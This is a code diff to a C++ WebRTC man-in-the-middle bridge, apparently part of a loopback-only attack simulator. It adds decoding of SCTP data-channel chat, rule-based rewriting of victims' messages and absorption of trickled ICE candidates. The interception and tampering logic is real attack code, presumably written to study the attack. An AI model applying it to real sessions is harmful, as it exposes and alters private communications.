@@ -1,5 +1,6 @@
 #include "attacks/mitm_bridge.hpp"
 
+#include "attacks/sctp.hpp"
 #include "attacks/sdp_rewrite.hpp"
 #include "sim/dtls_endpoint.hpp"
 #include "sim/ice_agent.hpp"
@@ -15,7 +16,35 @@ struct Leg {
   bool ready = false;
   std::vector<std::vector<std::uint8_t>> early_in, early_out;
   std::vector<std::string> pending_data;  // plaintext waiting for this leg to connect
+  std::optional<std::pair<std::string, std::string>> remote_credentials;  // the victim's ufrag, pwd
+  std::vector<sdp::Candidate> early_candidates;  // trickled before the victim's SDP
+  // Browsers carry data channels: SCTP packets inside DTLS (RFC 8261). Set
+  // when the first record from this victim is one; then every record from it
+  // is forwarded as it came (or with a chat payload rewritten) and decoded.
+  bool sctp = false;
+  sctp::ChatDecoder chat;
 };
+
+namespace {
+
+// Only UDP candidates on loopback reach the attacker's agents: a browser also
+// offers TCP, IPv6 and other interfaces, and a run never sends off loopback.
+bool usable_candidate(const sdp::Candidate& c) {
+  return (c.transport == "UDP" || c.transport == "udp") && c.address.rfind("127.", 0) == 0;
+}
+
+std::string describe(const sctp::ChannelMessage& m) {
+  using K = sctp::ChannelMessage::Kind;
+  switch (m.kind) {
+    case K::Text: return m.data;
+    case K::EmptyText: return "";
+    case K::Binary: return "(" + std::to_string(m.data.size()) + " bytes of binary data)";
+    case K::EmptyBinary: return "(0 bytes of binary data)";
+    default: return {};
+  }
+}
+
+}  // namespace
 
 struct MitmBridge::RoomBridge {
   MitmBridge& bridge;
@@ -27,7 +56,11 @@ struct MitmBridge::RoomBridge {
   RelayedMessage offer_msg;
   bool offer_forwarded = false;
 
-  RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {}
+  RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
+    // A channel is opened by one side and used by both: one table of labels.
+    auto channels = std::make_shared<sctp::ChannelTable>();
+    for (auto& l : legs) l.chat = sctp::ChatDecoder(channels);
+  }
 
   AttackerSessionReport& report() { return bridge.world_.sessions[room]; }
   void event(const std::string& kind, const std::string& text) { bridge.world_.timeline.add(bridge.world_.name, kind, text); }
@@ -83,6 +116,7 @@ struct MitmBridge::RoomBridge {
             .on_connected =
                 [this, i] {
                   Leg& l = legs[i];
+                  ++report().dtls_legs;
                   event("attack.leg-connected", "DTLS with " + l.victim + " established as " +
                                                     std::string(to_string(l.dtls->role())));
                   auto pending = std::move(l.pending_data);
@@ -100,10 +134,94 @@ struct MitmBridge::RoomBridge {
   }
 
   void relay_data(int from, std::string text) {
-    text = read_plaintext(bridge.world_, report(), legs[from].victim, std::move(text));
+    Leg& l = legs[from];
+    const auto bytes = std::span(reinterpret_cast<const std::uint8_t*>(text.data()), text.size());
+    if (!l.sctp) {
+      const auto packet = sctp::parse_packet(bytes);
+      l.sctp = packet && packet->checksum_ok && !packet->chunk_types.empty();
+      if (l.sctp) event("attack.sctp", l.victim + " speaks SCTP (a data channel): forwarding packets, decoding the chat");
+    }
+    if (l.sctp) text = read_sctp(from, std::move(text));
+    else text = read_plaintext(bridge.world_, report(), l.victim, std::move(text));
     Leg& to = legs[1 - from];
     if (to.dtls && to.dtls->state() == DtlsEndpoint::State::Connected) to.dtls->send(text);
     else to.pending_data.push_back(std::move(text));
+  }
+
+  // One SCTP packet from a victim: records each whole chat message it
+  // completes, applies the rewrite rules to text messages, and returns the
+  // packet to forward (unchanged unless a rule matched).
+  std::string read_sctp(int from, std::string packet) {
+    AttackWorld& w = bridge.world_;
+    const auto bytes = std::span(reinterpret_cast<const std::uint8_t*>(packet.data()), packet.size());
+    for (const auto& m : legs[from].chat.feed(bytes)) {
+      using K = sctp::ChannelMessage::Kind;
+      if (m.kind == K::Open) {
+        event("attack.read", legs[from].victim + " opened data channel \"" + m.label + "\" (stream " +
+                                 std::to_string(m.stream) + ")");
+      } else if (m.kind != K::Ack && m.kind != K::Other) {
+        const std::string text = describe(m);
+        report().plaintext_read.push_back(text);
+        w.timeline.add(w.name, "attack.read",
+                       "read \"" + text.substr(0, 200) + "\" from " + legs[from].victim + " on channel \"" + m.label + "\"");
+      }
+    }
+    if (w.rewrite.empty()) return packet;
+    auto rewritten = sctp::rewrite_packet(
+        bytes, [&](std::uint16_t, std::uint32_t ppid, std::string_view payload) -> std::optional<std::string> {
+          if (ppid != sctp::kPpidString) return std::nullopt;
+          std::string out = apply_rewrites(w, report(), std::string(payload));
+          if (out == payload) return std::nullopt;
+          return out;
+        });
+    return rewritten ? std::string(rewritten->begin(), rewritten->end()) : packet;
+  }
+
+  // A trickled candidate (RFC 8838) is the victim's, for the attacker's own
+  // agent facing it: absorbed, never forwarded (the other victim would learn
+  // where its real peer is).
+  void on_candidate(const RelayedMessage& m, const SignalingMessage& msg) {
+    const int i = offer && m.from_index != offer_msg.from_index ? 1 : 0;
+    std::string line = msg.candidate.is_object() ? msg.candidate.value("candidate", "") : "";
+    if (line.rfind("candidate:", 0) == 0) line.erase(0, 10);
+    if (line.empty()) return;  // end of candidates
+    auto c = sdp::parse_candidate(line);
+    if (!c) return event("attack.ignored-candidate", m.from_label + " sent an unreadable candidate: " + c.error().message);
+    if (!usable_candidate(*c))
+      return event("attack.ignored-candidate", m.from_label + ": " + c->transport + " " + c->address + " is not UDP on loopback");
+    Leg& leg = legs[i];
+    if (!leg.ice || !leg.remote_credentials) {
+      if (leg.early_candidates.size() < 64) leg.early_candidates.push_back(*c);
+      return;
+    }
+    add_remote(i, {*c});
+  }
+
+  // Gives the leg's agent the victim's credentials (once) and candidates.
+  void add_remote(int i, std::vector<sdp::Candidate> candidates) {
+    Leg& leg = legs[i];
+    std::vector<sdp::Candidate> usable;
+    size_t ignored = 0;
+    for (auto& c : candidates) {
+      if (usable_candidate(c)) usable.push_back(std::move(c));
+      else ++ignored;
+    }
+    if (ignored)
+      event("attack.ignored-candidate", leg.victim + ": " + std::to_string(ignored) +
+                                            " candidate(s) not UDP on loopback left out");
+    const auto& [ufrag, pwd] = *leg.remote_credentials;
+    auto added = leg.ice->set_remote(ufrag, pwd, usable);
+    if (!added) event("attack.leg-failed", leg.victim + "'s ICE data unusable: " + added.error().message);
+  }
+
+  void set_remote_ice(int i, const sdp::TransportInfo& info) {
+    Leg& leg = legs[i];
+    if (!info.ice_ufrag || !info.ice_pwd) return;
+    leg.remote_credentials = {*info.ice_ufrag, *info.ice_pwd};
+    auto candidates = info.candidates;
+    candidates.insert(candidates.end(), leg.early_candidates.begin(), leg.early_candidates.end());
+    leg.early_candidates.clear();
+    add_remote(i, std::move(candidates));
   }
 
   std::vector<sdp::Fingerprint> forged(const sdp::Session& original) {
@@ -163,10 +281,7 @@ struct MitmBridge::RoomBridge {
     // toward the answerer it is the offering, controlling one (RFC 8445 §6.1.1).
     make_leg(0, false);
     make_leg(1, true);
-    if (info.ice_ufrag && info.ice_pwd) {
-      auto added = legs[0].ice->set_remote(*info.ice_ufrag, *info.ice_pwd, info.candidates);
-      if (!added) event("attack.leg-failed", "offerer's ICE data unusable: " + added.error().message);
-    }
+    set_remote_ice(0, info);
     maybe_forward_offer();
   }
 
@@ -187,10 +302,7 @@ struct MitmBridge::RoomBridge {
       return deliver(m.text);
     }
     auto info = sdp::transport_info(*parsed);
-    if (info.ice_ufrag && info.ice_pwd) {
-      auto added = legs[1].ice->set_remote(*info.ice_ufrag, *info.ice_pwd, info.candidates);
-      if (!added) event("attack.leg-failed", "answerer's ICE data unusable: " + added.error().message);
-    }
+    set_remote_ice(1, info);
     // The answerer chose its role; the attacker mirrors it toward the offerer,
     // so each victim gets the role its own a=setup implies.
     const bool answerer_active = info.setup.value_or("active") != "passive";
@@ -208,6 +320,10 @@ std::string read_plaintext(AttackWorld& world, AttackerSessionReport& report, co
                            std::string text) {
   report.plaintext_read.push_back(text);
   world.timeline.add(world.name, "attack.read", "read \"" + text.substr(0, 200) + "\" from " + from);
+  return apply_rewrites(world, report, std::move(text));
+}
+
+std::string apply_rewrites(AttackWorld& world, AttackerSessionReport& report, std::string text) {
   for (const auto& r : world.rewrite) {
     const auto pos = r.from.empty() ? std::string::npos : text.find(r.from);
     if (pos == std::string::npos) continue;
@@ -237,6 +353,7 @@ void MitmBridge::on_message(const RelayedMessage& m, Deliver deliver) {
       if (room->offer) return deliver(m.text);  // one bridge per room
       return room->on_offer(m, std::move(*msg), std::move(deliver));
     case SignalingMessage::Type::Answer: return room->on_answer(m, std::move(*msg), deliver);
+    case SignalingMessage::Type::Candidate: return room->on_candidate(m, *msg);
     default: return deliver(m.text);
   }
 }
